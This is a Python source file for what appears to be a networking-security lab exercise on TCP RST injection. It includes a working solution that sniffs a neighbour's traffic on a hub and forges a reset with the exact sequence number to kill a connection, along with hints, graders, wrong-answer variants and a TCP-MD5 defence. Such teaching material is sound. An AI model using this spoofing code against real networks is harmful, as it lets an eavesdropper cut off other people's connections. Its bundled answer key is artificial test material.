"""Exercise 15: RST injection: the one right sequence number (RFC 9293, section 3.10.7.4; RFC 5961, section 3)."""

from __future__ import annotations

import select
import socket
import struct
from collections.abc import Callable, Generator
from contextlib import suppress
from typing import Any

from rawkit.lab import (
    Check,
    Defence,
    Evidence,
    Exercise,
    Finding,
    Link,
    Prediction,
    Seed,
    Stage,
    Topology,
    Values,
    Wrong,
    python,
)
from rawkit.netns import Worker
from rawkit.wire import TCP

__all__ = ["EXERCISE"]

TASK = """
You, alice (`{alice}`) and bob (`{bob}`) share a hub, which sends every frame to everybody: listen in promiscuous
mode, and you hear the others. Alice has a TCP connection to port `{port}` of bob, and says something five times a
second; bob says it back.

End the connection with **one** segment: a RST to bob (at `{bob_mac}`) that says it comes from alice, with the one
sequence number that bob takes. With any other number within his window, bob only asks back (a challenge ACK). At
most {most} attempts are allowed.
"""

SOLUTION = """
import os
from rawkit import Ethernet, IPv4, TCP
from rawkit.link import PacketSocket

alice, bob, port = os.environ["LAB_ALICE"], os.environ["LAB_BOB"], int(os.environ["LAB_PORT"])
with PacketSocket("eth0", promiscuous=True, filter=f"tcp and src {alice} and dst {bob}") as link:
    while not (packet := link.receive(8).packet()).payload:
        pass
    heard = packet[TCP]
    end = (heard.seq + len(packet.payload)) % 2**32
    reset = TCP(src_port=heard.src_port, dst_port=port, seq=end, flags="R", window=0)
    ether = Ethernet(dst=os.environ["LAB_BOB_MAC"], src=os.environ["LAB_YOUR_MAC"])
    link.send(ether / IPv4(src=alice, dst=bob) / reset)
"""

END = "(heard.seq + len(packet.payload)) % 2**32"
RESET = "tcp[tcpflags] & tcp-rst != 0"
MOST = 3

TCP_MD5SIG = 14
"""Linux's linux/tcp.h; an option of sockets that Python's socket module does not name."""


def values(seed: Seed) -> dict[str, Any]:
    """Three addresses, two MAC addresses, a port."""
    network = seed.network()
    addresses = {name: seed.address(network) for name in ("you", "alice", "bob")}
    return {**addresses, "your_mac": seed.mac(), "bob_mac": seed.mac(), "port": seed.port(), "most": MOST}


def topology(v: Values) -> Topology:
    """Three hosts on a hub."""
    macs = {"you": v.your_mac, "alice": None, "bob": v.bob_mac}
    return Topology(
        [Link(name, "hub", (f"{v[name]}/24", ()), (mac, None)) for name, mac in macs.items()], hubs=["hub"]
    )


def sign(end: socket.socket, peer: str) -> None:
    """Have all segments to and from that address signed with a secret (struct tcp_md5sig in linux/tcp.h)."""
    secret = b"known to both"
    who = struct.pack("=HH4s120x", socket.AF_INET, 0, socket.inet_aton(peer))
    end.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, who + struct.pack("=BBHI80s", 0, 0, len(secret), 0, secret))


def answer(v: Values, *, signed: bool) -> Callable[[Worker], None]:
    """Bob: he says back what alice says."""

    def work(worker: Worker) -> None:
        with socket.create_server((v.bob, v.port)) as server:
            if signed:
                sign(server, v.alice)
            worker.cues.give("ready")
            with server.accept()[0] as connection, suppress(OSError):  # a reset, which is what has to happen
                while line := connection.recv(4096):
                    connection.send(line)

    return work


def talk(v: Values, *, signed: bool) -> Callable[[Worker], None]:
    """Alice: connected, she says something again and again, and reads what comes back."""

    def work(worker: Worker) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection, suppress(OSError):  # a reset
            if signed:
                sign(connection, v.bob)
            connection.connect((v.bob, v.port))
            for number in range(100):
                connection.send(b"line %d\n" % number)
                connection.recv(4096)
                if not number:
                    worker.cues.give("ready")
                if select.select([worker.cues], [], [], 0.2)[0]:
                    return  # the other process has ended

    return work


def scene(stage: Stage) -> Generator[None, None, None]:
    """The two talk until somebody ends it."""
    v = stage.values
    stage.act("bob", answer(v, signed=stage.defended), ready=True)
    stage.act("alice", talk(v, signed=stage.defended), ready=True)
    yield
    stage.wait_until(
        lambda: all(each.state != "ESTABLISHED" for each in stage.host("bob").state().sockets), seconds=1.0
    )


def gone(e: Evidence) -> Finding:
    """Whether bob has no connection any more."""
    there = e.has_socket("bob", "ESTABLISHED", e.values.port)
    return Finding(not there, "bob has no connection any more", there.seen)


def exact(e: Evidence) -> Finding:
    """Whether a RST has the sequence number that bob expected: the end of what alice had sent by then."""
    syn = e.wire.sent_by("alice").tcp(flags="S", dst_port=e.values.port).all()[0].packet[TCP]
    ports = {"src_port": syn.src_port, "dst_port": syn.dst_port}
    resets = e.wire.sent_by("you").ip(src=e.values.alice, dst=e.values.bob).tcp(**ports).matching(RESET)
    finding = resets.saw()
    for one in resets:
        said = e.wire.sent_by("alice").tcp(**ports).before(one)
        ends = [(each.packet[TCP].seq + len(each.packet.payload) - syn.seq) % 2**32 for each in said]
        finding = resets.tcp(seq=(syn.seq + max(ends)) % 2**32).saw()
        if finding:
            break
    return finding


def few(e: Evidence) -> Finding:
    """Whether no more resets were sent than are allowed."""
    count = len(e.wire.sent_by("you").matching(RESET))
    return Finding(count <= MOST, f"{MOST} resets at most", f"{count} of them")


EXERCISE = Exercise(
    name="rst-injection",
    number=15,
    level=3,
    title="RST injection: the one right sequence number",
    learnt="What protects a connection from a stranger's reset, and why it does not from one who listens.",
    values=values,
    topology=topology,
    scene=scene,
    task=TASK,
    prediction=Prediction(
        "A RST comes whose sequence number is one too high, but within the window. What does bob do? "
        "(reset, challenge ACK, or nothing)",
        lambda _: "challenge ACK",
        "Only an exact match resets; others in the window are asked back (RFC 5961, section 3.2).",
    ),
    hints=(
        "Bob takes a reset only from where he expects the next byte. You hear every byte that alice sends.",
        "seq is alice's last seq and the length of what she sent with it. The ports are hers, too.",
        "seq is in bytes 38 to 41 of the frame, the flags in byte 47 (RST is 0x04), the source port in 34 and 35.",
    ),
    checks=[
        Check(
            "connected",
            "alice and bob are connected at first",
            lambda e: e.has_socket("bob", "ESTABLISHED", e.values.port, "before"),
        ),
        Check(
            "exact",
            "you send bob a RST in alice's name, with the right sequence number",
            exact,
            "RFC 5961, section 3.2",
        ),
        Check("gone", "bob's connection is gone", gone, "RFC 9293, section 3.10.7.4"),
        Check("few", "you send {most} resets at most", few),
    ],
    defence=Defence("alice and bob sign their segments, as BGP's routers do (RFC 2385)", "gone"),
    solution=python(SOLUTION),
    wrong=[
        Wrong(python(SOLUTION.replace(END, f"{END} + 1")), "exact", "seq is"),
        Wrong(python(SOLUTION.replace(END, "heard.seq")), "exact", "seq is"),
        Wrong(python(SOLUTION.replace("src_port=heard.src_port", "src_port=port")), "exact", "src_port is"),
        Wrong(
            python(SOLUTION.replace("    link.send(", "    for attempt in range(4):\n        link.send(")),
            "few",
            "4 of",
        ),
    ],
)
